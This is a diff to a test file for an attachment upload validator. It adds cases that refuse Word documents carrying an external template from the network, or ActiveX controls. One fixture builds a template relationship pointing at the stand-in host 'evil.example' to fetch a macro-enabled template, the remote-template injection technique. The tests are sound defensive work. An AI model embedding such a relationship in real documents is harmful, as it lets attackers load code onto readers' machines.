@@ -30,6 +30,11 @@ const documentParts = (mainType = MAIN, main = 'word/document.xml'): Part[] => [
   { name: main, content: '<document/>' },
 ]
 
+const template = (target: string): Part => ({
+  name: 'word/_rels/settings.xml.rels',
+  content: `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`,
+})
+
 const MB = 1024 * 1024
 const bomb: Part = { name: 'a.txt', content: Buffer.alloc(30 * MB) }
 const scan: Part = { name: 'word/media/blank.bmp', content: Buffer.alloc(8 * MB) }
@@ -41,6 +46,11 @@ describe('an attachment', () => {
     ['a Word document', 'a.docx', zip(documentParts())],
     ['a Word document of the online editor', 'a.docx', zip(documentParts(MAIN, 'word/document2.xml'))],
     ['a Word document with a blank scan', 'a.docx', zip([...documentParts(), scan])],
+    [
+      'a Word document with a template of its author',
+      'a.docx',
+      zip([...documentParts(), template('file:///C:\\\\公文.dotx')]),
+    ],
     ['a workbook', 'a.xlsx', zip(workbookParts('<row r="1"/>'))],
     ['an archive', 'a.zip', zip([{ name: '甲/乙.txt', content: '丙' }])],
     ['an old Word document', 'a.doc', compound(['WordDocument', '1Table', 'Data', 'CompObj', 'ObjectPool'])],
@@ -56,6 +66,18 @@ describe('an attachment', () => {
       'a.docx',
       zip(documentParts('application/vnd.ms-word.document.macroEnabled.main+xml')),
       '含有宏',
+    ],
+    [
+      'a Word document with a template of the network',
+      'a.docx',
+      zip([...documentParts(), template('https://evil.example/a.dotm')]),
+      '外部模板',
+    ],
+    [
+      'a Word document with controls',
+      'a.docx',
+      zip([...documentParts(), { name: 'word/activeX/activeX1.bin', content: 'x' }]),
+      'ActiveX',
     ],
     ['an archive with a project of macros', 'a.zip', zip([macros]), '含有宏'],
     [
@@ -96,6 +118,7 @@ describe('an attachment', () => {
   ])('is refused: %s', async (_what, name, bytes, message) => {
     await expect(upload(name, bytes)).rejects.toMatchObject({
       status: 415,
+      code: expect.stringMatching(/^V-00[46]$/),
       message: expect.stringContaining(message),
       errors: [{ field: 'file', message: expect.stringContaining(message) }],
     })
